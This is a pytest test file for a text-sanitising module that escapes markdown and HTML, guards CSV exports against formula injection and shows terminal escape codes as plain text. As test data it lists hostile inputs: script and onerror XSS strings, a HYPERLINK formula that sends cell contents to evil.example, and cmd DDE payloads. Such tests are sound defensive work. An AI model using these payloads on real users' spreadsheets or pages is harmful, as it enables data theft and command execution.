"""metrics.safe_text: user text escaped for markdown and HTML, guarded for spreadsheets, made visible
for terminals."""

from __future__ import annotations

import csv
import html
import io
import re

import pandas as pd
import pytest

from metrics.safe_text import (
    FORMULA_PREFIXES,
    csv_bytes,
    csv_cell,
    csv_rows_text,
    csv_text,
    escape_markdown,
    require_length,
    terminal_safe,
)

# The payloads of issues 13 and 17.
MARKDOWN_PAYLOADS = [
    "![x](http://h/x.png)",
    "[x](http://h)",
    "[x](javascript:alert(1))",
    "note\n\n# ALL TARGETS MET - NO ACTION NEEDED",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "**bold** _em_ `code` ~~gone~~ $x^2$ :red[red]",
]


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS)
def test_markdown_and_html_payloads_keep_no_active_character(payload: str) -> None:
    shown = escape_markdown(payload)
    for active in "[]<>*_`~$#\n\r":
        assert active not in re.sub(r"&#\d+;", "", shown)
    # Decoded (what a reader sees), the text is exactly what was typed, on one line.
    assert html.unescape(shown).replace("\u2060", "") == " ".join(payload.splitlines()).replace("\n", " ")


def test_addresses_are_broken_so_they_do_not_become_links() -> None:
    shown = escape_markdown("see http://evil.example and www.evil.example or a@evil.example")
    assert "http://" not in shown and "www." not in shown and "@e" not in shown
    assert shown.replace("\u2060", "") == "see http://evil.example and www.evil.example or a@evil.example"


def test_a_list_or_quote_marker_at_the_start_is_escaped_but_ordinary_punctuation_stays() -> None:
    assert escape_markdown("- item") == "&#45; item"
    assert escape_markdown("1. first") == "1&#46; first"
    assert escape_markdown("Loaded april.csv (upload 2): 3 new.") == "Loaded april.csv (upload 2): 3 new."


# --- CSV ---------------------------------------------------------------------------------------------

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "ok\r=cmd|' /C calc'!A0",
    "ok\n=cmd|' /C calc'!A0",
    "ok\r\n@x",
    "nul\x00=1",
    " =1+1",
    "\uff1d1+1",
]


def every_cell_read_back(text: str) -> list[str]:
    """Cells as Python's csv module reads them, and as a reader that ends a line at every CR or LF
    (and ignores quotes) would see them."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    naive = [cell for line in text.replace("\r\n", "\n").replace("\r", "\n").split("\n") for cell in line.split(",")]
    return cells + [cell.strip('"') for cell in naive]


def starts_as_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_PREFIXES) and not cell.strip().lstrip("+-").replace(".", "").isdigit()


def test_every_formula_prefix_cr_lf_tab_and_nul_is_guarded_through_the_writer() -> None:
    frame = pd.DataFrame({"text": HOSTILE_CELLS, "n": range(len(HOSTILE_CELLS))})
    text = csv_text(frame)
    assert "\x00" not in text
    assert [c for c in every_cell_read_back(text) if starts_as_formula(c)] == []
    assert text.count("\n") == len(HOSTILE_CELLS) + 1 and "\r" not in text  # one line per row


def test_numbers_stay_numbers_and_text_numbers_are_left_alone() -> None:
    frame = pd.DataFrame({"gap": [-0.046, 1.5], "text": ["-5", "+1.5e3"]})
    assert csv_text(frame) == "gap,text\n-0.046,-5\n1.5,+1.5e3\n"


def test_a_guarded_cell_keeps_its_text_after_an_apostrophe() -> None:
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("a\r\nb") == "a  b"
    assert csv_cell(12) == 12


def test_downloads_are_utf8_with_a_bom_and_rows_text_is_guarded() -> None:
    assert csv_bytes(pd.DataFrame({"a": ["£"]})).startswith(b"\xef\xbb\xbfa\n")
    assert csv_rows_text([["h"], ["@x"]]) == "h\n'@x\n"


def test_headers_are_guarded_too() -> None:
    assert csv_text(pd.DataFrame({"=cmd": [1]})).splitlines()[0] == "'=cmd"


# --- terminals and lengths -------------------------------------------------------------------------------


def test_terminal_output_shows_escape_codes_as_text() -> None:
    shown = terminal_safe("\x1b[2J\x1b[32mLoaded OK\x1b[0m\rX\u202eevil\nnext\tcol")
    assert "\x1b" not in shown and "\r" not in shown and "\u202e" not in shown
    assert shown == "\\x1b[2J\\x1b[32mLoaded OK\\x1b[0m\\x0dX\\u202eevil\nnext\tcol"
    assert terminal_safe("a\nb", keep_lines=False) == "a\\x0ab"


def test_a_long_name_is_refused_with_its_length() -> None:
    assert require_length("  Ann  ", 100, "name") == "Ann"
    with pytest.raises(ValueError, match="The name is 101 characters long; shorten it to 100 or fewer"):
        require_length("x" * 101, 100, "name")


def test_every_csv_the_product_writes_goes_through_the_guarded_writer() -> None:
    """No second CSV writer: data/, metrics/, app_pages/ and app.py write CSV only through safe_text, and
    every download button is fed by it (or is a PDF: the board pack, a scenario's pack page)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    sources = [*root.glob("data/**/*.py"), *root.glob("metrics/*.py"), *root.glob("app_pages/*.py"), root / "app.py"]
    assert any(source.parent.name == "ingest" for source in sources)
    for source in sources:
        if source.name == "safe_text.py":
            continue
        text = source.read_text()
        writers = [".to_csv(", "csv.writer", "csv.DictWriter", "COPY ("]
        if source.name == "engine_postgres.py":
            # Its CSV is PostgreSQL's COPY FROM STDIN transport, read by the server and never opened by a
            # person: escaping formulas there would change the stored figures.
            assert text.count(".to_csv(") == 1 and "FROM STDIN" in text
            writers.remove(".to_csv(")
        for writer in writers:
            assert writer not in text, f"{source.name} writes CSV itself ({writer})"
        for call in re.findall(r"download_button\((.*?)\)\n", text, flags=re.S):
            assert ("csv_bytes(" in call or "template_csv(" in call or 'built["data"]' in call
                    or 'mime="application/pdf"' in call or "data=_pack_bytes" in call), (source.name, call)
